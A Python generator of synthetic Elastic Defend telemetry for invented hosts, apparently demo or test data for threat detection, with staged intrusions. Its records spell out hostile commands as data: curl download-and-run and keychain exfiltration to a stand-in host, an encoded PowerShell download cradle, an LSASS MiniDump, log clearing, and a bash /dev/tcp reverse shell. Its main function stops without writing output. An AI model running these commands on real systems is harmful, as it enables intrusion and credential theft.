#!/usr/bin/env python3
"""Writes the demo case: one working day on six hosts as Elastic Defend records it.

Everything is invented: hosts, people, addresses (128.66.0.0/16 belongs to nobody) and names. The
same bytes come out on every run. Usage: make_demo.py [FOLDER]
"""
import base64
import gzip
import hashlib
import json
import pathlib
import random
import sys
import uuid

SECOND = 1_000_000_000
MINUTE = 60 * SECOND
EPOCH_1601 = 11_644_473_600
DAY = 1_776_124_800 * SECOND  # 2026-04-14T00:00:00Z
CONTROL = "128.66.110.153"
PAYLOAD = "128.66.9.14"
SCANNER = "128.66.3.9"


def at(clock):
    """Nanoseconds of "09:31:07.114" on the day of the story."""
    hours, minutes, seconds = clock.split(":")
    return DAY + (int(hours) * 3600 + int(minutes) * 60) * SECOND + round(float(seconds) * 1e6) * 1000


def iso(time, decimals):
    days, rest = divmod(time, 86_400 * SECOND)
    seconds, fraction = divmod(rest, SECOND)
    year, month, day = civil(days)
    text = f"{year:04}-{month:02}-{day:02}T{seconds // 3600:02}:{seconds // 60 % 60:02}:{seconds % 60:02}"
    return f"{text}.{fraction:09}"[: 20 + decimals] + "Z"


def civil(days):
    """Date of a day number since 1970 (Gregorian calendar)."""
    days += 719_468
    era, day_of_era = divmod(days, 146_097)
    year_of_era = (day_of_era - day_of_era // 1460 + day_of_era // 36_524 - day_of_era // 146_096) // 365
    day_of_year = day_of_era - (365 * year_of_era + year_of_era // 4 - year_of_era // 100)
    shifted = (5 * day_of_year + 2) // 153
    month = shifted + 3 if shifted < 10 else shifted - 9
    return year_of_era + era * 400 + (month <= 2), month, day_of_year - (153 * shifted + 2) // 5 + 1


def hashes(text):
    """Stand-ins for file hashes: the same program has the same ones everywhere."""
    data = text.encode()
    return {"md5": hashlib.md5(data).hexdigest(), "sha1": hashlib.sha1(data).hexdigest(),
            "sha256": hashlib.sha256(data).hexdigest()}


class Process:
    def __init__(self, host, executable, args, pid, start, parent, user):
        self.host, self.executable, self.args = host, executable, args
        self.name = executable.replace("\\", "/").rsplit("/", 1)[-1]
        self.pid, self.start, self.parent, self.user = pid, start, parent, user
        seconds, fraction = divmod(start, SECOND)
        key = f"{host.agent}-{pid}-{seconds + EPOCH_1601}.{fraction:09}"
        self.entity = base64.b64encode(key.encode()).decode()
        self.fork = None
        self.signature = host.signature(self.name, executable)

    def ancestry(self):
        chain, process = [], self
        while process and len(chain) < 6:
            if process.fork:
                chain.append(process.fork)
            process = process.parent
            if process:
                chain.append(process.entity)
        return chain

    def brief(self):
        return {"entity_id": self.entity, "executable": self.executable, "name": self.name,
                "pid": self.pid, "code_signature": self.signature,
                "command_line": " ".join(self.args), "Ext": {"ancestry": self.ancestry()}}


class Host:
    """One machine and its recorder. Events are kept with their time and numbered at the end."""

    def __init__(self, seed, name, system, version, address):
        self.random = random.Random(f"sequela demo {seed}")
        self.name, self.system, self.version, self.address = name, system, version, address
        self.id = self.make_uuid()
        if system == "macos":
            self.id = self.id.upper()
        self.agent = self.make_uuid()
        self.mac = "-".join(f"{self.random.randrange(256):02X}" for _ in range(6))
        self.pid = 300
        self.events = []
        self.decimals = {"macos": 6, "windows": 7, "linux": 9}[system]

    def make_uuid(self):
        return str(uuid.UUID(int=self.random.getrandbits(128), version=4))

    def signature(self, name, executable):
        if self.system == "linux":
            return {"exists": False}
        if self.system == "windows":
            publisher = "Microsoft Windows" if executable.startswith("C:\\Windows") else "Microsoft Corporation"
            return {"exists": True, "status": "trusted", "subject_name": publisher, "trusted": True}
        if executable.startswith(("/tmp", "/Users")):
            return {"exists": False}
        if executable.startswith("/Applications"):
            vendor = "Example Software Ltd (4XM9PLQ2V7)"
            return {"exists": True, "signing_id": "com.example." + name.lower().replace(" ", "-"),
                    "status": "No error.", "subject_name": "Developer ID Application: " + vendor,
                    "team_id": "4XM9PLQ2V7", "trusted": True}
        return {"exists": True, "signing_id": "com.apple." + name, "status": "No error.",
                "subject_name": "Software Signing", "trusted": True}

    def os(self):
        if self.system == "macos":
            return {"Ext": {"variant": "macOS"}, "family": "macos", "full": "macOS " + self.version,
                    "kernel": "Darwin Kernel Version 24.4.0", "name": "macOS", "platform": "macos",
                    "type": "macos", "version": self.version}
        if self.system == "windows":
            return {"Ext": {"variant": "Windows 11 Pro"}, "family": "windows",
                    "full": f"Windows 11 Pro {self.version}", "kernel": self.version, "name": "Windows",
                    "platform": "windows", "type": "windows", "version": self.version}
        return {"Ext": {"variant": "Ubuntu"}, "family": "debian", "full": f"Ubuntu {self.version}",
                "kernel": "6.8.0-57-generic #59-Ubuntu SMP", "name": "Linux", "platform": "ubuntu",
                "type": "linux", "version": self.version}

    def record(self, time, dataset, category, kind, action, message, user, **parts):
        time -= time % 10 ** (9 - self.decimals)
        stream = f"endpoint.events.{dataset}"
        event = {"action": action, "agent_id_status": "verified", "category": category,
                 "created": iso(time, self.decimals), "dataset": stream, "kind": "event",
                 "module": "endpoint", "outcome": parts.pop("outcome", "unknown"), "type": kind}
        document = {
            "@timestamp": iso(time, self.decimals),
            "agent": {"id": self.agent, "type": "endpoint", "version": "8.17.4"},
            "data_stream": {"dataset": stream, "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.10.0"}, "elastic": {"agent": {"id": self.agent}}, "event": event,
            "host": {"architecture": "arm64" if self.system == "macos" else "x86_64",
                     "hostname": self.name, "id": self.id, "ip": [self.address, "127.0.0.1", "::1"],
                     "mac": [self.mac], "name": self.name, "os": self.os()},
            "message": message, "user": self.user(user)}
        document.update(parts)
        self.events.append((time, len(self.events), document))

    def user(self, name):
        if self.system == "windows":
            if name == "SYSTEM":
                return {"domain": "NT AUTHORITY", "id": "S-1-5-18", "name": "SYSTEM"}
            return {"domain": "CORP", "id": "S-1-5-21-1004336348-1177238915-682003330-1107", "name": name}
        number = {"root": "0", "www-data": "33"}.get(name, "501" if self.system == "macos" else "1000")
        return {"Ext": {"real": {"id": number, "name": name}}, "id": number, "name": name}

    def boot(self, executable, pid, parent=None, user="root", args=None):
        """A process that was there before the recording began."""
        return Process(self, executable, args or [executable], pid, at("07:30:00") - pid * 7 * SECOND,
                       parent, user)

    def run(self, time, parent, executable, args, user=None, life=None, code=0):
        """Starts a process: fork and exec on macOS and Linux, one start on Windows."""
        self.pid += 4 if self.system == "windows" else self.random.randrange(1, 4)
        process = Process(self, executable, args, self.pid, time, parent, user or parent.user)
        above = {"args": parent.args, "args_count": len(parent.args), "command_line": " ".join(parent.args),
                 "entity_id": parent.entity, "executable": parent.executable, "name": parent.name,
                 "pid": parent.pid, "code_signature": parent.signature}
        if self.system != "windows":
            image = Process(self, parent.executable, parent.args, self.pid, time - 900_000, parent,
                            process.user)
            self.emit_process(time - 900_000, image, "fork", dict(above))
            process.fork = image.entity
            above["entity_id"] = image.entity
        self.emit_process(time, process, "start" if self.system == "windows" else "exec", above)
        if life is not None:
            self.end(time + int(life * SECOND), process, code)
        return process

    def emit_process(self, time, process, action, above):
        details = process.brief()
        details.update(args=process.args, args_count=len(process.args), hash=hashes(process.executable),
                       parent=above, start=iso(process.start, self.decimals))
        if self.system == "windows":
            details["pe"] = {"original_file_name": process.name}
            details["working_directory"] = "C:\\Windows\\system32\\"
        else:
            details["working_directory"] = "/"
            details["interactive"] = False
        self.record(time, "process", ["process"], ["start"], action, "Endpoint process event",
                    process.user, process=details)

    def end(self, time, process, code=0):
        details = process.brief()
        details["exit_code"] = code
        self.record(time, "process", ["process"], ["end"], "end", "Endpoint process event", process.user,
                    process=details)

    def connect(self, time, process, address, port, life=1.0, domain=None, sent=900, received=4000):
        version = "ipv6" if ":" in address else "ipv4"
        local = "::1" if address == "::1" else self.address
        source = {"address": local, "ip": local, "port": self.random.randrange(49_152, 65_535)}
        target = {"address": domain or address, "ip": address, "port": port}
        if domain:
            target["domain"] = domain
        wire = {"direction": "egress", "transport": "tcp", "type": version}
        self.record(time, "network", ["network"], ["start"], "connection_attempted",
                    "Endpoint network event", process.user, process=process.brief(),
                    source=dict(source), destination=dict(target), network=dict(wire))
        if life is not None:
            source["bytes"], target["bytes"] = sent, received
            self.record(time + int(life * SECOND), "network", ["network"], ["end"], "disconnect_received",
                        "Endpoint network event", process.user, process=process.brief(),
                        source=source, destination=target, network=wire)

    def resolve(self, time, process, name, addresses):
        question = {"name": name, "registered_domain": ".".join(name.split(".")[-2:]), "type": "A"}
        wire = {"protocol": "dns", "transport": "udp", "type": "ipv4"}
        if self.system == "windows":
            self.record(time - 20_000_000, "network", ["network"], ["protocol", "info"], "lookup_requested",
                        "Endpoint DNS event", process.user, process=process.brief(),
                        dns={"question": question}, network=dict(wire))
        self.record(time, "network", ["network"], ["protocol", "info"], "lookup_result",
                    "Endpoint DNS event", process.user, process=process.brief(),
                    dns={"question": question, "resolved_ip": addresses, "Ext": {"status": 0}},
                    network=wire)

    def write(self, time, process, path, action="creation", size=2048, header=None):
        name = path.replace("\\", "/").rsplit("/", 1)[-1]
        about = {"name": name, "path": path, "size": size, "Ext": {}}
        if "." in name.lstrip("."):
            about["extension"] = name.rsplit(".", 1)[-1]
        if header:
            about["Ext"]["header_bytes"] = header
        if action == "rename":
            about["Ext"]["original"] = {"path": path + ".tmp"}
        kind = {"creation": "creation", "deletion": "deletion"}.get(action, "change")
        self.record(time, "file", ["file"], [kind], action, "Endpoint file event", process.user,
                    process=process.brief(), file=about)

    def set_value(self, time, process, path, strings, kind="REG_SZ"):
        hive, rest = path.split("\\", 1)
        self.record(time, "registry", ["registry"], ["change"], "modification", "Endpoint registry event",
                    process.user, process=process.brief(),
                    registry={"data": {"strings": strings, "type": kind}, "hive": hive,
                              "key": rest.rsplit("\\", 1)[0], "path": path,
                              "value": path.rsplit("\\", 1)[-1]})

    def load(self, time, process, path, trusted=True):
        name = path.rsplit("\\", 1)[-1]
        signature = {"exists": True, "status": "trusted", "subject_name": "Microsoft Windows", "trusted": True}
        if not trusted:
            signature = {"exists": False, "trusted": False}
        self.record(time, "library", ["library"], ["start"], "load", "Endpoint DLL load event", process.user,
                    process=process.brief(),
                    dll={"code_signature": signature, "hash": hashes(path), "name": name, "path": path})

    def log_on(self, time, process, user, address, outcome):
        self.record(time, "security", ["authentication", "session"], ["start"],
                    "ssh_log_on" if self.system == "linux" else "log_on", "Endpoint security event", user,
                    outcome=outcome, process=process.brief(), source={"address": address, "ip": address})

    def times(self, gap, first="07:32:00", last="17:28:00"):
        """Irregular moments of the day; a greater `gap` makes them rarer."""
        time, end = at(first), at(last)
        while True:
            time += int(self.random.expovariate(0.62 / gap) * SECOND) + 1000
            if time >= end:
                return
            yield time

    def finish(self, folder):
        lines = []
        prefix = base64.b64encode(hashlib.sha256(self.name.encode()).digest())[:16].decode()
        for number, (time, _, document) in enumerate(sorted(self.events, key=lambda e: e[:2])):
            counter = base64.b64encode(number.to_bytes(4, "big")).decode().rstrip("=").rjust(8, "+")
            document["event"]["id"] = prefix + counter
            document["event"]["sequence"] = 14_000 + number
            delay = 9 * SECOND + self.random.randrange(25 * SECOND)
            document["event"]["ingested"] = iso(time + delay, 0).replace(".Z", "Z")
            lines.append(json.dumps(document, separators=(",", ":"), sort_keys=True, ensure_ascii=False))
        data = ("\n".join(lines) + "\n").encode()
        path = folder / f"{self.name}.ndjson.gz"
        with open(path, "wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as packed:
            packed.write(data)
        return len(lines)


SITES = [("chat.example.net", "128.66.20.11"), ("mail.example.org", "128.66.20.25"),
         ("docs.example.com", "128.66.21.40"), ("news.example.org", "128.66.22.7"),
         ("updates.example.com", "128.66.23.80"), ("cdn.example.net", "128.66.24.3")]


class Mac:
    """A Mac with the programs of an office day."""

    def __init__(self, name, user, address):
        self.host = host = Host(name, name, "macos", "15.4.1", address)
        self.user = user
        self.launchd = host.boot("/sbin/launchd", 1)
        self.dns = host.boot("/usr/sbin/mDNSResponder", 201, self.launchd, "_mdnsresponder")
        self.slack = host.boot("/Applications/Slack.app/Contents/MacOS/Slack", 257, self.launchd, user)
        self.safari = host.boot("/Applications/Safari.app/Contents/MacOS/Safari", 262, self.launchd, user)
        self.mail = host.boot("/System/Applications/Mail.app/Contents/MacOS/Mail", 265, self.launchd, user)
        self.mds = host.boot("/System/Library/Frameworks/CoreServices.framework/Support/mds", 96, self.launchd)
        self.terminal = host.boot("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 280,
                                  self.launchd, user)
        self.shell = host.boot("/bin/zsh", 284, self.terminal, user, ["-zsh"])

    def ordinary(self):
        host, user, pick = self.host, self.user, self.host.random
        home = f"/Users/{user}"
        for time in host.times(190):
            worker = host.run(time, self.launchd, "/System/Library/Frameworks/CoreServices.framework/Support/mdworker_shared",
                              ["mdworker_shared", "-s", "mdworker", "-c", "MDSImporterWorker"], user,
                              life=pick.uniform(20, 400))
            host.write(time + SECOND, self.mds, f"/private/var/db/Spotlight-V100/store-{worker.pid}.db", "modification")
        for time in host.times(170):
            name, address = pick.choice(SITES)
            program = pick.choice([self.safari, self.safari, self.mail, self.slack])
            host.resolve(time, self.dns, name, [address])
            host.connect(time + 60_000_000, program, address, 443, pick.uniform(0.4, 90), name,
                         pick.randrange(600, 9000), pick.randrange(2000, 400_000))
        for time in host.times(300):
            folder = pick.choice(["Documents", "Downloads", "Library/Caches/com.example.chat", "Library/Preferences"])
            ending = pick.choice(["docx", "pdf", "plist", "db", "png"])
            host.write(time, pick.choice([self.safari, self.slack, self.mail]),
                       f"{home}/{folder}/{pick.randrange(16**6):06x}.{ending}",
                       pick.choice(["creation", "modification", "rename"]), pick.randrange(300, 900_000))
        for time in host.times(900):
            command = pick.choice([["git", "status"], ["git", "pull"], ["ls", "-la"], ["grep", "-r", "total", "."],
                                   ["sw_vers"], ["ssh-add", "-l"], ["brew", "list"]])
            host.run(time, self.shell, f"/usr/bin/{command[0]}", command, life=pick.uniform(0.05, 4))
            host.write(time + SECOND, self.shell, f"{home}/.zsh_history", "modification", 9000)
        for time in host.times(2400):
            command = ["softwareupdate", "--list", "--no-scan"]
            host.run(time, self.launchd, "/usr/sbin/softwareupdate", command, "root", life=6)
        # The management agent reports every five minutes, to the second.
        agent = host.boot("/Applications/Device Agent.app/Contents/MacOS/agentd", 120, self.launchd)
        for number in range(118):
            host.connect(at("07:32:11") + number * 300 * SECOND, agent, "10.20.0.15", 8443, 0.6,
                         "mdm.corp.example", 700, 300)

    def script(self, clock, args, life):
        return self.host.run(at(clock), self.shell, "/usr/bin/osascript", ["osascript", *args], life=life)


def intrusion(mac):
    """mbp-fin-03: an invoice, a script, the keychain, a launch agent."""
    host, user = mac.host, mac.user
    home = f"/Users/{user}"
    host.pid = 2206
    word = host.run(at("09:29:44.020"), mac.launchd, "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
                    ["/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", f"{home}/Downloads/invoice.docm"],
                    user, life=3700)
    host.write(at("09:28:57.4"), mac.mail, f"{home}/Downloads/invoice.docm", "creation", 84_211, "504b030414000600")
    host.connect(at("09:30:02.5"), word, "128.66.21.40", 443, 40, "docs.example.com")
    host.connect(at("09:32:55.1"), word, "128.66.21.40", 443, 22, "docs.example.com")
    host.write(at("09:30:40.9"), word, f"{home}/Library/Containers/com.microsoft.Word/Data/tmp/~WRD0001.tmp")
    host.pid = 3144
    inline = f'do shell script "curl -s http://{CONTROL}/u -o /tmp/.u; zsh /tmp/.u &"'
    shell = host.run(at("09:30:58.301"), word, "/bin/sh", ["sh", "-c", f"osascript -e '{inline}'"], life=14)
    script = host.run(at("09:31:07.114"), shell, "/usr/bin/osascript", ["osascript", "-e", inline], life=6)
    curl = host.run(at("09:31:09.240"), script, "/usr/bin/curl", ["curl", "-s", f"http://{CONTROL}/u", "-o", "/tmp/.u"], life=2)
    host.connect(at("09:31:09.355"), curl, CONTROL, 80, 0.8, None, 88, 18_344)
    host.write(at("09:31:10.171"), curl, "/tmp/.u", "creation", 18_211, "23212f62696e2f7a")
    host.connect(at("09:31:11.318"), script, CONTROL, 443, 0.4, None, 412, 96)
    zsh = host.run(at("09:31:12.020"), script, "/bin/zsh", ["zsh", "/tmp/.u"], life=7400)
    for number in range(121):
        jitter = host.random.randrange(-2 * SECOND, 2 * SECOND)
        host.connect(at("09:31:45") + number * MINUTE + jitter, zsh, CONTROL, 443, 0.3, None, 212, 64)
    for clock, args in [("09:31:52.3", ["whoami"]), ("09:31:53.0", ["sw_vers"]), ("09:31:54.1", ["id", "-p"]),
                        ("09:31:55.2", ["system_profiler", "SPHardwareDataType"])]:
        host.run(at(clock), zsh, f"/usr/bin/{args[0]}", args, life=0.3)
    host.run(at("09:32:06.7"), zsh, "/usr/bin/osascript",
             ["osascript", "-e", 'display dialog "System Settings wants to make changes. Enter your password." default answer "" with hidden answer'],
             life=21)
    host.write(at("09:32:31.8"), zsh, f"{home}/Library/.cache-u", "creation", 310_272, "cffaedfe0c000001")
    host.run(at("09:32:33.1"), zsh, "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", f"{home}/Library/.cache-u"], life=0.1)
    host.run(at("09:33:02.412"), zsh, "/usr/bin/security",
             ["security", "dump-keychain", "-d", f"{home}/Library/Keychains/login.keychain-db"], life=1)
    packer = host.run(at("09:34:11.730"), zsh, "/usr/bin/zip", ["zip", "-r", "/tmp/.k.zip", f"{home}/Library/Keychains"], life=3)
    host.write(at("09:34:13.9"), packer, "/tmp/.k.zip", "creation", 1_204_331, "504b0304")
    upload = host.run(at("09:34:50.118"), zsh, "/usr/bin/curl", ["curl", "-F", "f=@/tmp/.k.zip", f"https://{CONTROL}/p"], life=4)
    host.connect(at("09:34:50.402"), upload, CONTROL, 443, 3.4, None, 1_209_844, 310)
    host.write(at("09:35:20.0"), zsh, "/tmp/.k.zip", "deletion", 0)
    agent = f"{home}/Library/LaunchAgents/com.u.plist"
    host.write(at("09:36:12.044"), zsh, agent, "creation", 611, "3c3f786d6c")
    host.run(at("09:36:13.310"), zsh, "/bin/launchctl", ["launchctl", "load", agent], life=0.2)


def vpn_and_near_misses(mac):
    """mbp-fin-07: the VPN is brought up from a script; scripts that only look alike."""
    host = mac.host
    helper = host.run(at("08:12:03"), mac.shell, "/bin/bash", ["bash", f"/Users/{mac.user}/bin/office.sh"], life=190)
    for clock, program, args in [
            ("08:12:05.1", "/usr/sbin/networksetup", ["networksetup", "-listallnetworkservices"]),
            ("08:12:09.3", "/usr/sbin/networksetup", ["networksetup", "-connectpppoeservice", "Office VPN"]),
            ("08:12:40.8", "/usr/sbin/scutil", ["scutil", "--nc", "status", "Office VPN"]),
            ("08:13:02.4", "/usr/sbin/scutil", ["scutil", "--nc", "start", "Office VPN"]),
            ("08:14:11.9", "/usr/bin/osascript", ["osascript", "-e", 'tell application "System Events" to tell current location of network preferences to set VPN to service "Office VPN"']),
            ("16:50:02.2", "/usr/sbin/networksetup", ["networksetup", "-disconnectpppoeservice", "Office VPN"]),
            ("16:51:30.0", "/usr/sbin/networksetup", ["networksetup", "-getinfo", "Wi-Fi"])]:
        host.run(at(clock), helper, program, args, life=0.4)
    script = mac.script("10:40:12.5", ["-e", 'do shell script "curl -s http://192.168.7.20/printers"'], 5)
    host.connect(at("10:40:14.6"), script, "192.168.7.20", 80)
    script = mac.script("11:05:00.1", ["/Users/luis/bin/notes.scpt"], 5)
    host.connect(at("11:05:01.0"), script, "::1", 9090)
    mac.script("14:15:00.0", ["-e", 'display notification "Coffee"'], 1)


def operations(mac):
    """mbp-ops-11: an administrator's day, noisy but harmless, and a late connection of a script."""
    host = mac.host
    for clock, path in [("10:02:41.7", "/health"), ("10:03:10.2", "/version"), ("10:05:55.9", "/"), ("10:09:01.3", "/health")]:
        curl = host.run(at(clock), mac.shell, "/usr/bin/curl", ["curl", "-sS", f"http://128.66.44.12{path}"], life=0.7)
        host.connect(at(clock) + 90_000_000, curl, "128.66.44.12", 80, 0.4)
    for clock, url in [("10:12:00.4", "http://10.20.0.31:9200/_cat/health"), ("10:13:10.9", "https://updates.example.com/feed")]:
        host.run(at(clock), mac.shell, "/usr/bin/curl", ["curl", "-sS", url], life=0.7)
    script = mac.script("11:42:00.0", ["/Users/mika/bin/weekly-report.scpt"], 70)
    host.connect(at("11:42:45.0"), script, "128.66.21.40", 443, 2, "docs.example.com")
    host.run(at("11:20:30.1"), mac.shell, "/usr/sbin/systemsetup", ["systemsetup", "-setremotelogin", "on"], "root", life=1)
    host.run(at("11:19:58.0"), mac.shell, "/usr/sbin/systemsetup", ["systemsetup", "-getremotelogin"], "root", life=1)
    installer = host.boot("/System/Library/PrivateFrameworks/PackageKit.framework/Resources/installd", 140, mac.launchd)
    host.write(at("13:30:20.0"), installer, "/Library/LaunchDaemons/com.example.backup.plist", "creation", 820)


class Windows:
    def __init__(self, name, user, address):
        self.host = host = Host(name, name, "windows", "24H2 (10.0.26100.3775)", address)
        self.user = user
        system = "C:\\Windows\\System32\\"
        self.services = host.boot(system + "services.exe", 712, None, "SYSTEM")
        self.svchost = host.boot(system + "svchost.exe", 1044, self.services, "SYSTEM", [system + "svchost.exe", "-k", "netsvcs", "-p"])
        self.explorer = host.boot("C:\\Windows\\explorer.exe", 4120, None, user)
        self.browser = host.boot("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", 5212, self.explorer, user)
        self.outlook = host.boot("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", 5408, self.explorer, user)
        host.pid = 6000

    def ordinary(self):
        host, pick = self.host, self.host.random
        system = "C:\\Windows\\System32\\"
        for time in host.times(260):
            name = pick.choice(["backgroundTaskHost.exe", "RuntimeBroker.exe", "conhost.exe", "SearchProtocolHost.exe", "taskhostw.exe"])
            process = host.run(time, self.svchost, system + name, [system + name, "-Embedding"], self.user, life=pick.uniform(2, 200))
            host.load(time + 30_000_000, process, system + pick.choice(["combase.dll", "shcore.dll", "windows.storage.dll", "twinapi.dll"]))
        for time in host.times(180):
            name, address = pick.choice(SITES)
            program = pick.choice([self.browser, self.browser, self.outlook])
            host.resolve(time, program, name, [address])
            host.connect(time + 50_000_000, program, address, 443, pick.uniform(0.5, 60), name, pick.randrange(500, 9000), pick.randrange(2000, 300_000))
        for time in host.times(280):
            ending = pick.choice(["xlsx", "docx", "tmp", "pdf"])
            host.write(time, pick.choice([self.browser, self.outlook, self.explorer]),
                       f"C:\\Users\\{self.user}\\Documents\\{pick.randrange(16**6):06x}.{ending}",
                       pick.choice(["creation", "modification", "rename"]), pick.randrange(500, 400_000))
        for time in host.times(350):
            value = pick.choice(["Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx",
                                 "Software\\Microsoft\\Office\\16.0\\Common\\Identity\\LastSeen"])
            host.set_value(time, self.explorer, "HKEY_USERS\\S-1-5-21-1004336348-1177238915-682003330-1107\\" + value, [str(pick.randrange(10**6))])
        for time in host.times(1500):
            host.log_on(time, self.services, "SYSTEM", "127.0.0.1", "success")
        host.set_value(at("09:02:11"), self.svchost, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth",
                       ["C:\\Windows\\System32\\SecurityHealthSystray.exe"])
        shell = host.run(at("08:45:00"), self.explorer, system + "WindowsPowerShell\\v1.0\\powershell.exe",
                         ["powershell.exe", "-ExecutionPolicy", "RemoteSigned", "-File", "C:\\Scripts\\map-printers.ps1"], life=9)
        host.connect(at("08:45:03"), shell, "10.20.0.8", 445, 2, "files.corp.example")


def macro(windows):
    """win-acc-02: a workbook, PowerShell, a service, the memory of LSASS."""
    host, user = windows.host, windows.user
    system = "C:\\Windows\\System32\\"
    folder = "C:\\ProgramData\\wupd\\"
    excel = host.run(at("13:05:20.4"), windows.outlook, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                     ["EXCEL.EXE", "/dde", f"C:\\Users\\{user}\\Downloads\\order-4471.xlsm"], life=2600)
    encoded = base64.b64encode(f"IEX (New-Object Net.WebClient).DownloadString('http://{PAYLOAD}/a')".encode("utf-16-le")).decode()
    shell = host.run(at("13:05:58.9"), excel, system + "WindowsPowerShell\\v1.0\\powershell.exe",
                     ["powershell.exe", "-nop", "-w", "hidden", "-enc", encoded], life=1500)
    host.connect(at("13:06:01.2"), shell, PAYLOAD, 80, 1.2, None, 120, 88_000)
    host.write(at("13:06:09.5"), shell, folder + "svc.exe", "creation", 210_944, "4d5a9000")
    host.write(at("13:06:09.9"), shell, folder + "version.dll", "creation", 98_304, "4d5a9000")
    host.set_value(at("13:06:30.3"), shell, "HKEY_USERS\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WUpd",
                   [folder + "svc.exe"])
    host.run(at("13:07:12.8"), shell, system + "sc.exe", ["sc.exe", "create", "WUpdSvc", "binPath=", folder + "svc.exe", "start=", "auto"], life=0.2)
    service = host.run(at("13:07:15.1"), windows.services, folder + "svc.exe", [folder + "svc.exe"], "SYSTEM", life=14_000)
    host.load(at("13:07:15.3"), service, folder + "version.dll", trusted=False)
    for number in range(60):
        jitter = host.random.randrange(-5 * SECOND, 5 * SECOND)
        host.connect(at("13:07:40") + number * 180 * SECOND + jitter, service, PAYLOAD, 443, 0.5, None, 300, 120)
    dumper = host.run(at("13:12:44.0"), service, system + "rundll32.exe",
                      ["rundll32.exe", system + "comsvcs.dll,", "MiniDump", "788", folder + "d.bin", "full"], life=3)
    host.write(at("13:12:45.6"), dumper, folder + "d.bin", "creation", 61_203_112, "4d444d5093a7")
    host.run(at("13:20:02.7"), service, system + "wevtutil.exe", ["wevtutil.exe", "cl", "Security"], life=0.4)


def linux_ordinary(host, web, sshd, cron):
    pick = host.random
    php = host.boot("/usr/sbin/php-fpm8.2", 910, web, "www-data", ["php-fpm: pool www"])
    for time in host.times(150):
        host.connect(time, php, "10.20.0.40", 5432, pick.uniform(0.01, 0.4), "db.corp.example")
    for time in host.times(300):
        host.write(time, php, f"/var/www/html/cache/{pick.randrange(16**8):08x}.html", "creation", pick.randrange(900, 40_000))
    for number in range(119):
        job = host.run(at("07:35:00") + number * 300 * SECOND, cron, "/bin/sh", ["/bin/sh", "-c", "/opt/metrics/push"], "root", life=0.9)
        push = host.run(at("07:35:00") + number * 300 * SECOND + 40_000_000, job, "/opt/metrics/push", ["/opt/metrics/push"], life=0.7)
        host.connect(at("07:35:00") + number * 300 * SECOND + 120_000_000, push, "10.20.0.77", 9091, 0.2)
    for time in host.times(1700):
        host.log_on(time, sshd, "kim", "10.20.4.18", pick.choice(["success", "success", "success", "failure"]))
    for time in host.times(2600):
        shell = host.run(time, sshd, "/bin/bash", ["-bash"], "kim", life=300)
        for command in (["df", "-h"], ["journalctl", "-u", "nginx", "-n", "50"], ["tail", "/var/log/nginx/access.log"]):
            host.run(time + pick.randrange(250) * SECOND, shell, f"/usr/bin/{command[0]}", command, life=0.1)
    dpkg = host.boot("/usr/bin/dpkg", 980, cron)
    host.write(at("07:41:10"), dpkg, "/etc/cron.d/php", "modification", 712)
    return php


def web_shell(host, php, sshd):
    """srv-web-01: an upload, a web shell, a reverse shell; later a guessed password and a cron job."""
    www = "www-data"
    host.write(at("15:20:31.5"), php, "/var/www/html/uploads/i.php", "creation", 311, "3c3f706870")
    for clock, command in [("15:21:12.2", "id"), ("15:21:40.8", "uname -a")]:
        shell = host.run(at(clock), php, "/bin/sh", ["sh", "-c", command], www, life=0.2)
        host.run(at(clock) + 4_000_000, shell, f"/usr/bin/{command.split()[0]}", command.split(), www, life=0.1)
    shell = host.run(at("15:23:05.1"), php, "/bin/sh", ["sh", "-c", f"curl -so /dev/shm/k http://{SCANNER}/k; chmod +x /dev/shm/k; /dev/shm/k"], www, life=4000)
    curl = host.run(at("15:23:05.3"), shell, "/usr/bin/curl", ["curl", "-so", "/dev/shm/k", f"http://{SCANNER}/k"], www, life=1)
    host.connect(at("15:23:05.5"), curl, SCANNER, 80, 0.7, None, 90, 740_112)
    host.write(at("15:23:06.1"), curl, "/dev/shm/k", "creation", 739_840, "7f454c46")
    host.run(at("15:23:07.2"), shell, "/usr/bin/chmod", ["chmod", "+x", "/dev/shm/k"], www, life=0.05)
    miner = host.run(at("15:23:07.6"), shell, "/dev/shm/k", ["/dev/shm/k"], www, life=3900)
    for number in range(30):
        host.connect(at("15:23:20") + number * 90 * SECOND, miner, "128.66.3.77", 3333, 20)
    back = f"bash -i >& /dev/tcp/{SCANNER}/4444 0>&1"
    shell = host.run(at("15:26:44.0"), php, "/bin/sh", ["sh", "-c", "/tmp/.r"], www, life=900)
    bash = host.run(at("15:26:44.2"), shell, "/bin/bash", ["bash", "-c", back], www, life=880)
    host.connect(at("15:26:44.3"), bash, SCANNER, 4444, 870)
    for number in range(6):
        host.log_on(at("15:41:00") + number * 4 * SECOND, sshd, "root", SCANNER, "failure")
    host.log_on(at("15:41:27"), sshd, "root", SCANNER, "success")
    root = host.run(at("15:41:27.5"), sshd, "/bin/bash", ["-bash"], "root", life=1200)
    host.write(at("15:42:30.4"), root, "/root/.ssh/authorized_keys", "modification", 980)
    host.write(at("15:43:02.0"), root, "/etc/cron.d/sysstat-2", "creation", 77)


def main():
    folder = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent)
    finance = Mac("mbp-fin-03", "dana", "10.20.3.103")
    finance.ordinary()
    intrusion(finance)
    second = Mac("mbp-fin-07", "luis", "10.20.3.107")
    second.ordinary()
    vpn_and_near_misses(second)
    admin = Mac("mbp-ops-11", "mika", "10.20.3.111")
    admin.ordinary()
    operations(admin)
    accounts = Windows("win-acc-02", "lee", "10.20.5.12")
    accounts.ordinary()
    macro(accounts)
    quiet = Windows("win-hr-05", "noor", "10.20.5.15")
    quiet.ordinary()
